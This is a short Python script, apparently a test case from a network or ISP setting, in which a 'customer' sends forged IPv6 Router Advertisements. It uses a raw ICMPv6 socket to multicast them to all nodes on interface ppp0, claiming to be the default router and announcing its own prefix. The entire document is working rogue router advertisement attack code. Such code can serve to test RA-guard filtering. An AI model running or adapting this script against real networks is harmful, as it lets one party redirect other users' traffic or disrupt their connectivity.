"""A customer who says that he is a router for everybody, with a prefix of his own."""

import socket
import struct

wire = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
message += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 7200, 3600, 0)
for _turn in range(5):
    wire.sendto(message + prefix, ("ff02::1", 0, 0, socket.if_nametoindex("ppp0")))
